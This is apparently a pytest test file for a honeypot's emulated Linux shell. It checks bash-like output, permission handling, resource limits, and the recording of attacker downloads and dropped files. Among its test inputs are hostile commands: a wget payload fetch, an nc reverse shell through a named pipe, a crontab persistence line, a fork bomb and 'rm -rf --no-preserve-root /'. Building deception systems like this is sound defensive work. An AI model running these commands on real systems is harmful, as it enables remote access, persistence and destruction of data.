# SPDX-License-Identifier: MIT
from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.at_scale import at_scale
from tests.decnet_decoys.decky_host import NOW, Player, root_shell
from tests.decnet_decoys.shell.hostile import ONE_LINE, prepared
from tests.examples import examples

from decnet_decoys.shell.budget import MAX_WRITTEN
from decnet_decoys.shell.command_lookup import find
from decnet_decoys.shell.control_flow import KILLED
from decnet_decoys.shell.effects import Pause, Print
from decnet_decoys.shell.interpreter import HANG_SECONDS, Interpreter
from decnet_decoys.shell.machine.access import KERNEL
from decnet_decoys.shell.machine.machine import Machine
from decnet_decoys.shell.programs import programs
from decnet_decoys.shell.streams import MAX_OUTPUT


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("echo a b", "a b\n"),
        ("echo $HOME $USER ~", "/root root /root\n"),
        ("echo '$HOME' \"$USER\"", "$HOME root\n"),
        ("X=5; echo $X ${X}1 ${Y:-none} $((X*2+1))", "5 51 none 11\n"),
        ("echo $(hostname) `whoami`", "web-01 root\n"),
        ("false || echo b && echo c", "b\nc\n"),
        ("true && echo a || echo b", "a\n"),
        ("echo b a | tr a-z A-Z", "B A\n"),
        ("printf 'b\\na\\n' | sort | head -1", "a\n"),
        ("printf 'b\\na\\nb\\n' | sort -ru", "b\na\n"),
        ("printf 'a\\na\\nb\\na\\n' | uniq -c", "      2 a\n      1 b\n      1 a\n"),
        ("printf 'a\\na\\nb' | uniq", "a\nb\n"),
        ("touch x; chmod 4755 x; find . -perm -4000 -name x; find . -perm -2000 -name x", "./x\n"),
        ("touch x; chmod u=rws,g=s,o=t x; stat -c %a x; find . -perm u=srw,g+s,+t", "7600\n./x\n"),
        ("touch x y; chmod 600 x; chmod 200 y; find . -perm u=r,u=w", "./y\n"),
        ("for i in 1 2; do echo n$i; done", "n1\nn2\n"),
        ("if [ -d /etc ]; then echo y; else echo n; fi", "y\n"),
        ("case abc in x) echo 1;; a*) echo 2;; esac", "2\n"),
        ("f() { echo in $1; }; f x", "in x\n"),
        ("(cd /tmp; pwd); pwd", "/tmp\n/root\n"),
        ("echo {a,b}{1..2}", "a1 a2 b1 b2\n"),
        ("cat <<E\n$USER\nE", "root\n"),
        ("cat <<'E'\n$USER\nE", "$USER\n"),
        ("cat <<< hi", "hi\n"),
        ("printf 'a\\nb\\n' | while read x; do echo got $x; done", "got a\ngot b\n"),
        ("echo x > /tmp/f; cat /tmp/f; echo y >> /tmp/f; wc -l /tmp/f", "x\n2 /tmp/f\n"),
        ("nosuch 2>/dev/null; echo $?", "127\n"),
        ("ls /nosuch 2>&1 | wc -l", "1\n"),
        ("yes | head -2", "y\ny\n"),
        ("echo aGk= | base64 -d", "hi"),
        ("echo -ne '\\x41\\x42'", "AB"),
        ("sh -c 'echo $0 $1' a b", "a b\n"),
        ("echo 'echo arg $1' > s; chmod +x s; ./s one", "arg one\n"),
        ("cd /usr && cd .. && pwd", "/\n"),
        ("uname -m; nproc; id -u", "x86_64\n2\n0\n"),
        ("echo /etc/hostn*", "/etc/hostname\n"),
        ("grep -c root /etc/passwd", "1\n"),
        ("expr 3 + 4; test 3 -gt 4; echo $?", "7\n1\n"),
        ("busybox echo hi", "hi\n"),
        ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i", "3\n"),
    ],
)
def test_a_line_prints_what_a_shell_would(run: Player, line: str, text: str) -> None:
    assert run(line).text == text


def test_options_may_get_shorter_while_getopts_reads_them(run: Player) -> None:
    assert run("getopts ab x -ab; getopts ab x -a; echo $x").text == "a\n"


def test_an_unknown_command_is_named_as_bash_does(run: Player) -> None:
    played = run("frobnicate --now")
    assert played.errors == "-bash: frobnicate: command not found\n"
    assert played.status == 127


def test_busybox_complains_in_its_own_words(player: Callable[..., Player]) -> None:
    assert player("nas")("apt update").errors == "-sh: apt: not found\n"


def test_nothing_is_fetched_and_the_request_is_recorded(run: Player) -> None:
    played = run("cd /tmp; wget -q http://198.51.100.9/m.sh -O m.sh; stat -c %s m.sh; rm m.sh")
    assert [(one.action, one.detail["url"]) for one in played.requested] == [("fetch", "http://198.51.100.9/m.sh")]
    assert played.text == "0\n"


def test_a_dropped_file_is_captured_byte_for_byte(run: Player) -> None:
    data = b"\x7fELF\xff\x00" + b"x" * 60
    played = run(f"echo -ne '\\x7fELF\\xff\\x00{'x' * 60}' > /tmp/.x; chmod 777 /tmp/.x; /tmp/.x")
    assert [one.data for one in played.captured] == [data]
    assert played.status == 0


def test_standard_input_becomes_a_file(player: Callable[..., Player]) -> None:
    played = player("debian-web", "root", b"\x00payload", terminal=None)("cat > /tmp/p; wc -c < /tmp/p")
    assert [one.data for one in played.captured] == [b"\x00payload"]
    assert played.text == "8\n"


def test_a_session_sees_only_its_own_changes(player: Callable[..., Player], machine: Any) -> None:
    first, second = Player(root_shell(machine)), Player(root_shell(machine))
    first("echo mine > /root/note; rm /etc/hostname")
    assert second("cat /root/note").status == 1
    assert second("cat /etc/hostname").text == "web-01\n"


def test_a_user_may_not_do_what_root_may(player: Callable[..., Player]) -> None:
    deploy = player("debian-web", "deploy")
    assert "Permission denied" in deploy("echo x > /etc/motd").errors
    assert deploy("cat /etc/shadow").errors == "cat: /etc/shadow: Permission denied\n"
    assert deploy("ls /root").status == 2
    assert deploy("touch /etc/x").status == 1


def test_sudo_wants_the_password(player: Callable[..., Player]) -> None:
    assert player("debian-web", "deploy", b"deploy")("sudo id -u").text == "0\n"
    refused = player("debian-web", "deploy", b"wrong", b"wrong", b"wrong")("sudo id -u")
    assert refused.status == 1
    assert "3 incorrect password attempts" in refused.errors


def test_passwd_asks_twice(player: Callable[..., Player]) -> None:
    assert "updated successfully" in player("debian-web", "root", b"new", b"new")("passwd").errors
    assert "unchanged" in player("debian-web", "root", b"new", b"other")("passwd").errors


def test_a_crontab_is_kept_and_shown(run: Player) -> None:
    played = run("(crontab -l; echo '* * * * * /tmp/x') | crontab -; crontab -l")
    assert played.text == "* * * * * /tmp/x\n"
    assert [one.path for one in played.captured] == ["/var/spool/cron/crontabs/root"]


def test_sleep_lets_time_pass_in_order(run: Player) -> None:
    assert run("echo a; sleep 2; echo b").pauses == [2.0]


def test_exit_leaves_with_its_status(run: Player) -> None:
    assert run("exit 3").status == 3
    assert run.shell.finished


def test_an_endless_loop_hangs_instead_of_working(run: Player) -> None:
    played = run("while true; do :; done")
    assert played.pauses[-1] == HANG_SECONDS
    assert played.status == 137


@pytest.mark.parametrize(
    "line",
    at_scale([
        "yes", "cat /dev/zero", "cat /dev/urandom | base64", "seq 1 999999999", "while true; do yes; done",
        "for i in {1..400}; do yes > /tmp/f$i; done", "for i in {1..300}; do cat /dev/zero >> /tmp/z; done",
        "a() { a | a; }; a", "echo 'sh /tmp/r' > /tmp/r; sh /tmp/r", "exec " * 900 + "id", "eval " * 500 + "id",
        "x=aaaaaaaaaa; for i in {1..60}; do x=$x$x; done; echo $x", "ls " + "*/" * 200, "echo {1..9}{1..9}{1..9}{1..9}",
        "for i in {1..200}; do mkdir -p d/d; cd d; done", "ln -s /tmp/l /tmp/l; cat /tmp/l/x",
        "find / -name '*a*b*c*d*e*f*g*'",
        "echo $((9**9**9**9)) $((1<<99999999)) $((1/0))", "printf '%99999999s' x", "head -c 999999999999 /dev/zero",
        "cp -r / /tmp/a; cp -r / /tmp/b; mv / /x; rm -rf --no-preserve-root /",
    ], always=6),
)  # fmt: skip
def test_no_line_works_for_long_or_prints_without_end(run: Player, line: str) -> None:
    began = time.process_time()
    played = run(line)
    assert time.process_time() - began < 5
    assert len(played.text) + len(played.errors) <= MAX_OUTPUT + MAX_WRITTEN


WORDS = st.sampled_from(
    [*sorted(programs()), "|", ";", "&&", "||", ">", ">>", "<", "2>&1", "&", "$(", ")", "`", "'", '"', "$x", "${x%%a}",
     "{", "}", "*", "/", "..", "-r", "-n", "-c",
     "-d", "-", "--", "/etc/passwd", "/tmp/x", "9" * 20, "while true; do", "done",
     "if", "then", "fi", "<<E\n", "\nE\n", "\0", "é", "\udcff", "$((", "))", "*/*", "/dev/zero", "s/a/b/", "{1..9999}"]
)  # fmt: skip


@settings(max_examples=examples(150), deadline=None)
@given(st.lists(WORDS, min_size=1, max_size=9).map(" ".join), st.sampled_from(["root", "deploy"]))
def test_no_line_makes_the_shell_raise(machine: Any, line: str, user: str) -> None:
    player = Player(root_shell(machine, user), (b"x", None, b"y"))
    player(line)
    assert player.shell.prompt.startswith(player.shell.user.name)


def test_the_clock_is_the_one_it_was_given(run: Player) -> None:
    assert run("date +%s").text == f"{NOW}\n"


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("mv /usr/bin/curl /usr/bin/cdl; curl -V; cdl -V | grep -c ^curl; which curl cdl", "1\n/usr/bin/cdl\n"),
        ("rm /usr/bin/wget; wget x || echo gone; type wget >/dev/null 2>&1 || echo unknown", "gone\nunknown\n"),
        ("cd /tmp; PATH=/tmp:$PATH; echo 'echo my $0 $1' > ls; chmod +x ls; ls a; which ls", "my /tmp/ls a\n/tmp/ls\n"),
        ("echo 'echo x' > /usr/local/bin/own; own; chmod 755 /usr/local/bin/own; own", "x\n"),
        ("cd /tmp; ln -s /bin/busybox cat; ./cat /etc/hostname; cp /bin/cat y; ./y /etc/hostname", "web-01\nweb-01\n"),
        ("python -V; python2 -c 1; which python3 sh", "/usr/bin/python3\n/usr/bin/sh\n"),
        ("/bin/busybox cat /proc/self/cmdline | tr '\\0' ' '", "/bin/busybox cat /proc/self/cmdline "),
        ("cat /proc/self/cmdline | tr '\\0' ' '; ls /proc/self/fd | wc -l", "cat /proc/self/cmdline 4\n"),
        ("ulimit -n 65535; ulimit -n; ulimit -a | grep -c 65535; ulimit -n 9999999; echo $?", "65535\n1\n1\n"),
        ("last -n 1 nosuch | grep -c still; last -1 | grep -c still; lastb | cut -c1-11", "0\n1\n\nbtmp begins\n"),
        ("sudo -l | tail -1; sudo -n id -u; sudo -l ls", "    (ALL : ALL) ALL\n0\n/usr/bin/ls\n"),
        ("ps -p 1 -o comm=; pgrep -f nothing.like.it; echo $?", "systemd\n1\n"),
        ("ldd /bin/ls | wc -l; ldd --version | head -1", "5\nldd (Debian GLIBC 2.36-9+deb12u8) 2.36\n"),
        ("python3 -c 'import os; print(os.path.exists(\"/etc\"), os.path.isfile(\"/etc\"))'", "True False\n"),
        (">f; chattr +ia f; echo x >> f; wc -c < f", "0\n"),
        (">f; chattr +i f; rm f; echo x > f; chmod 777 f; mv f g; lsattr f", "----i---------e------- f\n"),
        ("echo a > f; chattr +a f; echo b >> f; echo c > f; cat f; chattr -a f; echo c > f; cat f", "a\nb\nc\n"),
        ("touch f; chattr +i f; stat -c %a f; find . -name f -perm 644; chattr -i f; rm f; echo $?", "644\n./f\n0\n"),
        ("ls -l /proc/1/exe | grep -o '[^/]*$'; readlink /proc/self/exe", "systemd\n/usr/bin/readlink\n"),
        ("ls /lib/*/libc.so.6; head -1 /proc/self/limits | wc -w", "/lib/x86_64-linux-gnu/libc.so.6\n6\n"),
        ("python3 -c 'x=[i*i for i in range(4) if i]; print(sum(x), f\"{x[1]+1}\")'", "14 5\n"),
        ("python3 -c 'import os; print(\"ssh\" in os.listdir(\"/etc\"))'; mount -o remount,rw /; echo $?", "True\n0\n"),
        ("mkfifo f; ls -l f | cut -c1; [ -p f ] && file f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 9 >f; echo $?",
         "p\nf: fifo (named pipe)\n1\n"),
        ("nc 127.0.0.1 9 2>&1; nc -v 127.0.0.1 22 2>&1", "(UNKNOWN) [127.0.0.1] 9 (discard) : Connection refused\n"
         "localhost [127.0.0.1] 22 (ssh) : Connection refused\n"),
        ("false | true; echo ${PIPESTATUS[*]}; touch -d 2020-01-01 f; date -r f +%F", "1 0\n2020-01-01\n"),
        ("cat /proc/sys/kernel/random/boot_id | wc -c; w -h | wc -l", "37\n1\n"),
        ("mkdir -p -m 700 a/b; stat -c %a a a/b; mkdir --mode=u=rwx,go= c; stat -c %a c; mkdir -m 9 d; echo $?",
         "755\n700\n700\n1\n"),
        ("tput cols; tput nosuch; tput setaf 1", "80\n\x1b[31m"),
        ("select x in; do echo never; done; echo $?", "0\n"),
        ("cd /tmp; cp /bin/ls $'\\xff'; ldd $'\\xff' | wc -l; touch f; chattr +i f ''; gzip f; echo $?", "5\n1\n"),
        ("mkfifo -m u=rw,go= p; stat -c '%F %a' p; find . -type p -printf '%y\\n'; find . -type c", "fifo 600\np\n"),
        ("touch f; chattr +i f; stat f | grep -o '(0644/'; > /etc/passwd; su; echo $?", "(0644/\n1\n"),
        ("ulimit -z 1; echo $?; (ulimit -n 5; umask 077); ulimit -n; umask; ulimit -c hard; ulimit -c",
         "2\n1024\n0022\nunlimited\n"),
        ("ulimit 100; ulimit; ulimit -SHn 77; ulimit -Hn; ulimit -n soft; echo $?", "100\n77\n0\n"),
        ("tail -1 <(echo a); sed p <(echo b); bash <(echo 'echo c$1') d; python3 <(echo 'print(1)')",
         "a\nb\nb\ncd\n1\n"),
        ("source <(echo 'echo x; return 3; echo no'); echo $?; head -1 /etc; echo $?", "x\n3\n1\n"),
        ("chmod 600 /bin/ls; ls 2>&1; echo $?; which ls; nosuch; echo $?",
         "-bash: /usr/bin/ls: Permission denied\n126\n127\n"),
        ("mkdir d; >d/f; chattr +i d; echo a > d/x; rm d/f; echo b > d/f; cat d/f; chattr -R +i d; echo c > d/f; ls d;"
         "chattr -R -i d; rm -r d; ls d", "b\nf\n"),
        ("find /etc/cron.d -exec ';'; echo $?", "1\n"),
        ("tput setaf 9; tput setab 3; tput setaf 200", "\x1b[91m\x1b[43m\x1b[38;5;200m"),
        ("python3 -c 'import os.path; print(os.path.isdir(\"/\")); os.listdir(\"/etc/passwd\")' 2>&1 | tail -2",
         "NotADirectoryError: [Errno 20] Not a directory: '/etc/passwd'\nTrue\n"),
        ("sort <(echo b) <(echo a); systemctl stop nosuch 2>&1 | grep -c 'not loaded'", "a\nb\n1\n"),
    ],
)  # fmt: skip
def test_programs_are_found_and_shown_as_on_a_real_machine(run: Player, line: str, text: str) -> None:
    assert run(line).text == text


@pytest.mark.parametrize(
    ("line", "wrong"),
    [
        ("cp /etc/shadow y", "cp: cannot open '/etc/shadow' for reading: Permission denied\n"),
        ("cp /etc/hostname /etc/y", "cp: cannot create regular file '/etc/y': Permission denied\n"),
        ("mkdir -p d; cp -r d /etc", "cp: cannot create directory '/etc/d': Permission denied\n"),
        ("mv /etc/hostname y", "mv: cannot move '/etc/hostname' to 'y': Permission denied\n"),
        (">z; mv z nosuch/y", "mv: cannot move 'z' to 'nosuch/y': No such file or directory\n"),
    ],
)
def test_what_refuses_to_copy_or_move_a_file_is_named(player: Callable[..., Player], line: str, wrong: str) -> None:
    assert player("debian-web", "deploy")(line).errors == wrong


def test_sudo_without_a_terminal_asks_nothing_and_lists_what_one_may(player: Callable[..., Player]) -> None:
    for line in ("sudo -n id", "sudo -n -l", "sudo -ln", "sudo --list --non-interactive"):
        assert player("debian-web", "deploy")(line).errors == "sudo: a password is required\n"
    assert "(ALL : ALL) ALL" in player("debian-web", "deploy", b"deploy")("sudo -l").text


@pytest.mark.parametrize(("line", "meter"), [("curl http://192.0.2.9/x", False), ("curl -O http://192.0.2.9/x", True)])
def test_curl_at_a_terminal_shows_its_meter_for_files_only(run: Player, line: str, meter: bool) -> None:
    assert ("Xferd" in run(line).errors) == meter


def test_every_program_lies_where_the_shell_finds_it(player: Callable[..., Player]) -> None:
    for persona in ("debian-web", "nas"):
        shell = player(persona).shell
        family = shell.machine.persona.family
        here = {name: one.handler for name, one in programs().items() if family in one.families}
        assert {name for name, handler in here.items() if find(shell, name).handler is not handler} == set()


def test_who_has_no_terminal_is_not_among_the_users(player: Callable[..., Player]) -> None:
    run = player("debian-web", "root", terminal=None)
    assert run("who; users; w | wc -l; uptime | grep -c '0 user,'").text == "2\n1\n"


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("(sleep 0.1; echo late) & echo first; wait", "first\nlate\n"),
        ("(sleep 0.1; echo late) & echo first", "first\nlate\n"),
        ("sleep 0.2 && echo a & sleep 0.1 && echo b & wait; echo $?", "b\na\n0\n"),
        ("true && false || echo x & wait; false && echo n & wait", "x\n"),
        ("(sleep 0.1; exit 3) & wait $!; echo $?; (sleep 0.1; echo one) | cat & echo two; wait", "3\ntwo\none\n"),
        (
            "(echo begun; sleep 9; echo > /tmp/made) & wait; ls /tmp/made; a=$(echo in &); echo $a",
            "begun\n/tmp/made\nin\n",
        ),
        ("sleep 1 && echo done & jobs", "[1]+  Running                 ( sleep 1 && echo done ) &\ndone\n"),
        ("sh -c 'sleep 1 && echo late & echo first'; (sleep 2 && echo last &); echo then", "first\nthen\nlate\nlast\n"),
        (
            "x=$(sleep 1 && echo in &); { (sleep 1; echo out) & } | cat; { (sleep 1; echo kept) & } > /tmp/j; "
            "cat /tmp/j <(sleep 1 && echo read &); echo $x",
            "out\nkept\nread\nin\n",
        ),
        ("(sleep 1; echo never) & kill %1; (sleep 1; echo still) & disown; echo now", "now\nstill\n"),
    ],
)
def test_a_job_writes_after_its_pause(player: Callable[..., Player], line: str, text: str) -> None:
    assert player("debian-web", "root")(line).text == text


def test_what_a_job_has_not_yet_written_ends_with_its_line(machine: Machine) -> None:
    shell = prepared(machine)
    interpreter, held = Interpreter(shell), shell.lease.held
    effects = interpreter.run("(sleep 1; head -c 100000 /dev/zero) & sleep 9")
    while not isinstance(next(effects), Pause):
        pass
    assert shell.lease.held > held
    effects.close()
    shown = [effect for effect in interpreter.run("true") if isinstance(effect, Print)]
    assert [one for one in shown if not one.error] == []
    assert shell.lease.held == held


@pytest.mark.parametrize("line", ["sleep 1000 < /tmp/row", "exec 3< /tmp/row; sleep 1000"])
def test_what_a_command_reads_counts_as_memory_when_another_session_replaces_it(machine: Machine, line: str) -> None:
    shell = prepared(machine)
    interpreter, held = Interpreter(shell), shell.lease.held
    effects = interpreter.run(line)
    while not isinstance(next(effects), Pause):
        pass
    shell.files.write("/tmp/row", b"", KERNEL)
    assert shell.lease.held >= held
    effects.close()
    del effects
    list(interpreter.run("exec 3<&-"))
    assert shell.lease.held == held - len(ONE_LINE)


def test_a_job_that_never_ends_leaves_the_line_its_commands(player: Callable[..., Player]) -> None:
    run = player("debian-web", "root")
    played = run("while :; do echo beat; sleep 60; done & echo after; sh -c 'while :; do sleep 1; done' & jobs | wc -l")
    assert (played.text, played.status, played.pauses) == ("beat\nafter\n5\n", 0, [])  # a loop is listed in four lines
    assert run("kill %1 %2; jobs | grep -c Terminated").text == "2\n"


def test_a_script_that_is_its_own_interpreter_nests_no_further_than_others(player: Callable[..., Player]) -> None:
    run = player("debian-web", "root")
    assert run("printf '#!/tmp/own\\n' > /tmp/own; chmod +x /tmp/own; /tmp/own").status == KILLED
    assert run("printf '#!/usr/bin/env own\\n' > /usr/bin/own; chmod +x /usr/bin/own; own").status == KILLED
